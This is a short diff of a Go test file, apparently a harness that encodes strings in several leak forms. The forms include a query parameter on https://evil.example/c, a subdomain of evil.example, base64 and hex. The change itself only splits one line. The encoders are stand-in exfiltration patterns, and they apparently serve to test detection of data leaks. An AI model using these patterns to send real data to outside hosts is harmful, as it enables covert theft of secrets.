@@ -167,7 +167,8 @@ func measure(t *testing.T, name string, all []desk) {
 			return "https://evil.example/c?d=" + url.QueryEscape(s)
 		},
 		"host": func(s string) string {
-			return "http://" + strings.NewReplacer(" ", "-", ",", "", ".", "-").Replace(strings.ToLower(s)) + ".evil.example/"
+			return "http://" + strings.NewReplacer(" ", "-", ",", "", ".", "-").Replace(strings.ToLower(s)) +
+				".evil.example/"
 		},
 		"base64": func(s string) string { return "note " + base64.StdEncoding.EncodeToString([]byte(s)) },
 		"hex":    func(s string) string { return "note " + hex.EncodeToString([]byte(s)) },
